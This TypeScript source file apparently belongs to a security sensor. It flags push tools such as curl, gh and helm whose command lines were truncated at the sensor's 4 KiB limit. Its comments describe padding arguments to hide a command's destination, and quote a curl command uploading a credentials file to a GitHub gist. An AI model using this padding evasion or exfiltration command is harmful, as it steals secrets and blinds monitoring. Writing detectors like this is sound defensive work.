/**
 * Recognition of a table tool whose argv the sensor cut before it decided anything (./recognize.ts calls it
 * last, when neither a push nor a download was seen in the words left, or they may group otherwise).
 */
import { type ParsedArgv, parseArgv } from './argv.js';
import { flagsUpToLastArgument, pushGroupings } from './argv-groupings.js';
import { MAX_ARGV_READING_BYTES, MAX_ARGV_READINGS, pushFirstWords, readingsOf } from './joined-argv.js';
import { isUnexpectedLocation } from './locations.js';
import type { ProcessView, PushRecognition } from './recognize.js';
import type { PushToolSpec } from './types.js';

/**
 * Table tools whose command line the sensor cut (Falco keeps 4 KiB of argv) before it said push or download:
 * `curl -H "X-Pad: <4 KiB>" -T creds https://api.github.com/gists` loses its URL, `gh -R <long> release upload`
 * its sub-command. The cut-off words are gone, so such a run is taken for a push whose destination is its first
 * connection (judge.ts: only once it connected somewhere, and a generic uploader only to a classed destination).
 * Not the shapes whose argv is no tool's own words (an interpreter's script, a shell's `-c`, a transport
 * helper), nor a sub-command seen whole that is none of the tool's pushes (`git commit -m <4 KiB>`).
 */
const CUT_ARGV_KINDS: ReadonlySet<string> = new Set(['subcommand', 'upload', 'url-commit']);

export function cutArgvPush(
  candidates: readonly PushToolSpec[],
  name: string,
  words: string[],
  view: ProcessView,
  keyFiles: readonly string[],
): PushRecognition | null {
  for (const spec of candidates) {
    if (!CUT_ARGV_KINDS.has(spec.match.kind)) continue;
    const count = view.argvCount;
    if (
      count === undefined
        ? visiblyAnotherCommand(spec, parseArgv(words, spec.syntax))
        : anotherCommandInEveryReading(spec, view, count)
    )
      continue;
    return {
      kind: 'push',
      spec,
      tool: spec.tool,
      remote: null,
      destinationHost: null,
      destinationDefault: false,
      renamed: spec.usualBinaries !== undefined && !spec.usualBinaries.includes(name),
      unexpectedLocation: isUnexpectedLocation(view.binary),
      stdin: false,
      declaredIn: null,
      keyFiles,
      argvCut: true,
    };
  }
  return null;
}

/**
 * A sub-command tool whose sure sub-command word (the first positional not possibly a flag's value) is seen
 * whole and starts none of its pushes. The last word may be cut mid-word (`pu` of `push`), so it decides nothing.
 */
function visiblyAnotherCommand(spec: PushToolSpec, parsed: ParsedArgv): boolean {
  const firsts = pushFirstWords(spec);
  if (firsts === null) return false;
  const last = parsed.positionals.length - 1;
  for (let i = 0; i < last; i++) {
    const p = parsed.positionals[i]!;
    if (firsts.has(p)) return false;
    if (!parsed.afterFlag.has(i)) return true;
  }
  return false;
}

/**
 * Words joined with spaces (ProcessView.argvCount): the padding itself may hold the word that looks like another
 * sub-command or a download (`helm --kube-context "prod dependency <4 KiB>" push …` shows `dependency`, seen
 * whole). Decided only when every grouping of the words into their
 * arguments shows another command. Searched (./argv-groupings.ts): one that puts a push word at the sub-command,
 * and one that leaves every argument but the last a flag or a flag's value (the padded push's own, its push word
 * cut off); then the listed groupings (up to MAX_ARGV_READINGS) for the last positional followed by flags.
 */
function anotherCommandInEveryReading(spec: PushToolSpec, view: ProcessView, count: number): boolean {
  const words = view.args?.split(' ') ?? [];
  // A grouping that puts a push word where the sub-command stands is found without listing them (two spaced
  // arguments spread the joins past the cap: `--kube-context "prod dependency" --kube-as-group "<4 KiB>" push`).
  const firsts = pushFirstWords(spec);
  if (firsts !== null && count <= words.length) {
    const search = { words, count, syntax: spec.syntax, subcommand: true, isPushStart: (w: string) => firsts.has(w) };
    if (flagsUpToLastArgument(search) || !pushGroupings(search).next().done) return false;
  }
  // The listing, for what the searches leave (a last positional followed by flags), within the readings' budget.
  let tried = 0;
  const budget = Math.max(1, Math.floor(MAX_ARGV_READING_BYTES / Math.max(1, view.args?.length ?? 1)));
  for (const reading of readingsOf(words, Math.min(count, words.length))) {
    if (++tried > Math.min(MAX_ARGV_READINGS, budget)) return true;
    if (!visiblyAnotherCommand(spec, parseArgv(reading, spec.syntax))) return false;
  }
  return true;
}
